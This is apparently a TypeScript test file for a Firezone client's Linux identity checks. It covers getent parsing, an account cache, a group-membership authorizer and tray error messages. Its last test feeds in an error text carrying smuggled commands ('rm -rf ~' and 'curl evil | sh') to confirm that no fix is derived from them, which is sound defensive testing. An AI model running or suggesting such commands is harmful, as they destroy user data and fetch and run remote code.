// The pieces behind the identity checks, without root: NSS answers parsed at the boundary, the
// brief cache with its last-good fallback, the authorizer's decisions from the two facts, and the
// tray's problem built from a diagnosis rather than from words.
import { afterAll, describe, expect, test } from "bun:test";
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { problemFrom } from "../../lib/gui/problem.ts";
import { groupAuthorizer, MembershipError } from "../../lib/ipc/index.ts";
import { type Account, AccountCache, AccountLookupError, accountLookup } from "../../lib/sys/index.ts";
import { FzError } from "../../lib/types/index.ts";

const dir = mkdtempSync(join(tmpdir(), "fz-getent-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A stand-in for getent that prints `passwd` and `initgroups` answers given as shell snippets. */
function fakeGetent(passwd: string, initgroups: string): string {
  const path = join(dir, `getent-${Math.random().toString(36).slice(2)}`);
  writeFileSync(path, `#!/bin/sh\ncase "$1" in\npasswd) ${passwd} ;;\ninitgroups) ${initgroups} ;;\nesac\n`);
  chmodSync(path, 0o755);
  return path;
}

describe("accountLookup (getent in a child process)", () => {
  test("reads the name, the primary group and the supplementary groups", async () => {
    const getent = fakeGetent(
      "echo 'alice:x:1234:1234::/home/alice:/bin/sh'",
      "echo 'alice                 27 995'",
    );
    expect(await accountLookup({ getent })(1234)).toEqual({
      name: "alice",
      uid: 1234,
      gid: 1234,
      groups: [1234, 27, 995],
    });
  });

  test("a uid NSS does not know is null", async () => {
    expect(await accountLookup({ getent: fakeGetent("exit 2", "exit 2") })(4242)).toBeNull();
  });

  const hostile: Array<[string, string, string]> = [
    ["a name with a space", "echo 'al ice:x:1234:1234::/:/bin/sh'", "echo 'x 1'"],
    ["a name with a quote", `echo 'al"ice:x:1234:1234::/:/bin/sh'`, "echo 'x 1'"],
    ["an entry for another uid", "echo 'alice:x:1:1::/:/bin/sh'", "echo 'alice 1'"],
    ["a group id that is not a number", "echo 'alice:x:1234:1234::/:/bin/sh'", "echo 'alice 27 wheel'"],
    ["a failing initgroups", "echo 'alice:x:1234:1234::/:/bin/sh'", "exit 1"],
  ];
  for (const [what, passwd, initgroups] of hostile) {
    test(`${what} is refused, not passed on`, async () => {
      const lookup = accountLookup({ getent: fakeGetent(passwd, initgroups) });
      await expect(lookup(1234)).rejects.toBeInstanceOf(AccountLookupError);
    });
  }

  test("a lookup that hangs is killed after its timeout and fails", async () => {
    const lookup = accountLookup({ getent: fakeGetent("exec sleep 30", "exit 0"), timeoutMs: 200 });
    await expect(lookup(1234)).rejects.toThrow("took longer than 200 ms");
  });
});

describe("AccountCache", () => {
  const alice: Account = { name: "alice", uid: 1234, gid: 1234, groups: [1234, 995] };

  test("one lookup per uid at a time, and none again within the ttl", async () => {
    let calls = 0;
    let now = 0;
    const cache = new AccountCache(
      async () => {
        calls++;
        await Bun.sleep(20);
        return alice;
      },
      { ttlMs: 10_000, now: () => now },
    );
    await Promise.all([cache.get(1234), cache.get(1234), cache.get(1234)]);
    expect(calls).toBe(1);
    now = 10_000;
    await cache.get(1234);
    expect(calls).toBe(1);
    now = 10_001;
    await cache.get(1234);
    expect(calls).toBe(2);
  });

  test("when NSS stops answering, the last good answer stands; with none, the error is thrown", async () => {
    let fail = false;
    let now = 0;
    const cache = new AccountCache(
      async () => {
        if (fail) throw new AccountLookupError("down");
        return alice;
      },
      { ttlMs: 1, now: () => now },
    );
    await expect(cache.get(7)).resolves.toEqual(alice);
    fail = true;
    now = 100;
    await expect(cache.get(7)).resolves.toEqual(alice);
    await expect(cache.get(8)).rejects.toBeInstanceOf(AccountLookupError);
  });

  test("remembers at most maxEntries uids", async () => {
    const cache = new AccountCache(async (uid) => ({ ...alice, uid }), { maxEntries: 2 });
    for (const uid of [1, 2, 3]) await cache.get(uid);
    expect(cache.peek(1)).toBeUndefined();
    expect(cache.peek(3)?.uid).toBe(3);
  });
});

describe("groupAuthorizer", () => {
  const group = { name: "firezone", gid: 995 };
  const kernel = { pid: 10, uid: 1234, gid: 1234, exe: null };
  const fixed = (account: Account | null) => new AccountCache(async () => account);

  test("a process holding the group is member at once, whatever the database says", () => {
    const auth = groupAuthorizer(group, { accounts: fixed(null) });
    const peer = auth.admit({ ...kernel, groups: [995] });
    expect(peer).not.toBeInstanceOf(Promise);
    expect((peer as { tier: string }).tier).toBe("member");
  });

  test("listed in the database but not holding the group: refused as a session that predates joining", async () => {
    const auth = groupAuthorizer(group, {
      accounts: fixed({ name: "alice", uid: 1234, gid: 1234, groups: [1234, 995] }),
    });
    const refusal = await (auth.admit({ ...kernel, groups: [] }) as Promise<FzError>);
    expect(refusal).toBeInstanceOf(MembershipError);
    expect((refusal as MembershipError).membership).toEqual({
      diagnosis: "stale_session",
      group: "firezone",
      user: "alice",
    });
  });

  test("changes need the database to still list the user; an unanswered database leaves the kernel's answer", async () => {
    const removed = groupAuthorizer(group, {
      accounts: fixed({ name: "alice", uid: 1234, gid: 1234, groups: [1234] }),
    });
    const peer = removed.admit({ ...kernel, groups: [995] }) as Parameters<typeof removed.mayChange>[0];
    await expect(removed.mayChange(peer)).rejects.toThrow("is no longer in group 'firezone'");
    const errors: unknown[] = [];
    const down = groupAuthorizer(group, {
      accounts: new AccountCache(async () => {
        throw new AccountLookupError("timeout");
      }),
      onLookupError: (_uid, e) => errors.push(e),
    });
    const peer2 = down.admit({ ...kernel, groups: [995] }) as Parameters<typeof down.mayChange>[0];
    await expect(down.mayChange(peer2)).resolves.toBeUndefined();
    expect(errors.length).toBeGreaterThan(0);
  });
});

describe("the tray's problem", () => {
  test("each diagnosis has its own title and fix", () => {
    const stale = problemFrom(
      new MembershipError({ diagnosis: "stale_session", group: "firezone", user: "alice" }),
    );
    expect(stale.title).toBe("Log out and back in to use Firezone");
    expect(stale.fix).toBeUndefined();
    const outsider = problemFrom(
      new MembershipError({ diagnosis: "not_member", group: "firezone", user: "bob" }),
    );
    expect(outsider.fix).toBe("sudo usermod -aG firezone $USER");
    const removed = problemFrom(
      new MembershipError({ diagnosis: "removed", group: "firezone", user: "bob" }),
    );
    expect(removed.fix).toBeUndefined();
  });

  test("a permission error without a diagnosis gets no fix built from its words", () => {
    const p = problemFrom(new FzError("permission_denied", "group 'x; rm -rf ~' ... Run: curl evil | sh"));
    expect(p.fix).toBeUndefined();
    expect(p.title).toBe("Firezone refused this user");
  });
});
